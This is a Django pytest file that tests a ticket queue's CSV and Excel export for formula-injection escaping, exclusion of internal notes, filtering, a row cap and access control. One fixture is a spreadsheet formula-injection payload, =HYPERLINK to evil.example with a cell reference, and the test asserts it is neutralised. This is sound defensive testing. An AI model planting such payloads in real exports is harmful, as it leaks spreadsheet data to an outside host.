"""Exporting the filtered queue to Excel and CSV: formula-safe, never an internal note, capped."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook  # type: ignore[import-untyped]

from weibao.tickets.services.tickets import ticket_reply
from weibao.tickets.tests.factories import make_ticket
from weibao.tickets.views import exports

pytestmark = pytest.mark.django_db
EXPORT = reverse("tickets:export")
CANARY = "INTERNAL-CANARY-e2c41"


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def xlsx_rows(response) -> list[list[object]]:
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_csv_export_escapes_a_summary_that_starts_like_a_formula(as_staff, staff, archive_a):
    make_ticket(actor=staff, client=archive_a.client, title='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    make_ticket(actor=staff, client=archive_a.client, title="+1 电话回访", caller_name="@admin")
    response = as_staff.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = csv_rows(response)
    titles = {row[1] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点击")' in titles
    assert "'+1 电话回访" in titles
    assert "'@admin" in {row[11] for row in rows[1:]}


def test_the_xlsx_export_stores_a_formula_looking_summary_as_text(as_staff, staff, archive_a):
    ticket = make_ticket(actor=staff, client=archive_a.client, title="=1+1")
    response = as_staff.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    rows = xlsx_rows(response)
    assert rows[0][0]
    assert [ticket.number, "'=1+1"] == rows[1][:2]


def test_the_export_never_includes_internal_notes(as_staff, staff, archive_a):
    ticket = make_ticket(actor=staff, client=archive_a.client, title="有内部备注的请求")
    ticket_reply(actor=staff, ticket_id=ticket.pk, body=CANARY, internal=True)
    csv_text = b"".join(as_staff.get(EXPORT, {"format": "csv"}).streaming_content).decode()
    assert "有内部备注的请求" in csv_text
    assert CANARY not in csv_text
    xlsx = xlsx_rows(as_staff.get(EXPORT, {"format": "xlsx"}))
    assert all(CANARY not in str(value) for row in xlsx for value in row)


def test_the_export_follows_the_queue_filter(as_staff, staff, archive_a, archive_b):
    make_ticket(actor=staff, client=archive_a.client, title="甲客户的")
    make_ticket(actor=staff, client=archive_b.client, title="乙客户的")
    rows = csv_rows(as_staff.get(EXPORT, {"format": "csv", "client": archive_b.client.pk, "queue": "open"}))
    assert [row[1] for row in rows[1:]] == ["乙客户的"]


def test_the_queue_links_to_both_exports_with_its_filter(as_staff, archive_a):
    page = as_staff.get(reverse("tickets:queue"), {"client": archive_a.client.pk}).content.decode()
    assert f"{EXPORT}?client={archive_a.client.pk}&amp;format=xlsx" in page
    assert f"{EXPORT}?client={archive_a.client.pk}&amp;format=csv" in page


def test_the_export_is_capped_with_a_message_in_its_last_row(as_staff, staff, archive_a, monkeypatch):
    for i in range(4):
        make_ticket(actor=staff, client=archive_a.client, title=f"请求{i}")
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
    rows = csv_rows(as_staff.get(EXPORT, {"format": "csv"}))
    assert len(rows) == 1 + 3 + 1
    assert "3" in rows[-1][0]
    assert len(rows[-1]) == 1


def test_an_unknown_export_format_is_refused(as_staff):
    assert as_staff.get(EXPORT, {"format": "pdf"}).status_code == 400


def test_a_client_user_gets_no_export_from_the_staff_pages(as_client_a, staff, archive_a):
    make_ticket(actor=staff, client=archive_a.client, title="客户自己的")
    response = as_client_a.get(EXPORT, {"format": "csv"})
    assert response.status_code == 302
